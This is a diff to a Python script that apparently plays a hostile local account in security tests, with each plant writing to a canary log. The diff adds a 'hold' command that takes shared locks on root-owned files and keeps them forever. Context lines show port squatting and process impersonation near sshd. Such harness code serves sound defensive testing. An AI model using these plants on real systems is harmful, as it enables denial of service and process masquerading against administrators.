@@ -1,4 +1,4 @@
-"""What a hostile account plants, run with its own rights on the host: plants.py home|shared|swap|squat|pose [ARGS].
+"""What a hostile account plants, run with its own rights: plants.py home|shared|swap|squat|hold|pose [ARGS].
 
 Everything planted writes one line to the canary log when it runs: who planted it, as whom it runs (effective uid),
 where it lies, and the arguments of the process.
@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import contextlib
 import ctypes
+import fcntl
 import getpass
 import http.server
 import os
@@ -300,6 +301,17 @@ def squat(port: str) -> None:
     server.serve_forever()
 
 
+def hold(*paths: str) -> None:
+    """Hold locks on files of root's, as everybody can who may read them, for ever."""
+    for path in paths:
+        with contextlib.suppress(OSError):
+            file = os.open(path, os.O_RDONLY)
+            fcntl.lockf(file, fcntl.LOCK_SH)
+            fcntl.flock(file, fcntl.LOCK_SH)
+    while True:
+        time.sleep(60)
+
+
 def pose(name: str, *posing: str) -> None:
     """Be a process of another name and title, as ps and /proc show it, with connections to the real sshd open."""
     if not posing:
@@ -315,4 +327,6 @@ def pose(name: str, *posing: str) -> None:
 
 if __name__ == "__main__":
     os.umask(0)
-    {"home": home, "shared": shared, "swap": swap, "squat": squat, "pose": pose}[sys.argv[1]](*sys.argv[2:])
+    {"home": home, "shared": shared, "swap": swap, "squat": squat, "hold": hold, "pose": pose}[sys.argv[1]](
+        *sys.argv[2:]
+    )
